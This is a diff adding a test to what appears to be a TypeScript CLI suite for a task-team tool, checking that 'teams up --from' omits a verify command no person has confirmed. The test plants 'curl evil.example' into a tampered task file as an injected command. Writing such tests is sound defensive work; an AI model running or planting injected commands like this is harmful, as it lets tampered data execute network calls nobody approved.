@@ -115,6 +115,26 @@ describe("teams up --from", () => {
     });
   });
 
+  it("writes how each task is proved, without commands that no person has confirmed", async () => {
+    const teams = cliIn();
+    await teams(["create", "crew"]);
+    const proof = ["--verify", "npm test", "--reviewer", "team-lead", "--touches", "src/**"];
+    await teams(["task", "add", "First", ...proof]);
+    await teams(["task", "add", "Second"]);
+    const path = teamRef(teamsHome(teams.env), "crew").paths.task("2");
+    const second = JSON.parse(readFileSync(path, "utf8")) as object;
+    writeFileSync(path, JSON.stringify({ ...second, metadata: { _verify: "curl evil.example" } }));
+    const { out, err } = await teams(["up", "--from", "crew"]);
+    expect(JSON.parse(out)).toMatchObject({
+      tasks: [
+        { subject: "First", verify: "npm test", reviewer: "team-lead", touches: ["src/**"] },
+        { subject: "Second" },
+      ],
+    });
+    expect(out).not.toContain("evil");
+    expect(err).toBe("No person has confirmed the verify command of #2, so it is left out.\n");
+  });
+
   it("names what a file cannot hold", async () => {
     const teams = cliIn();
     await teams(["create", "crew"]);
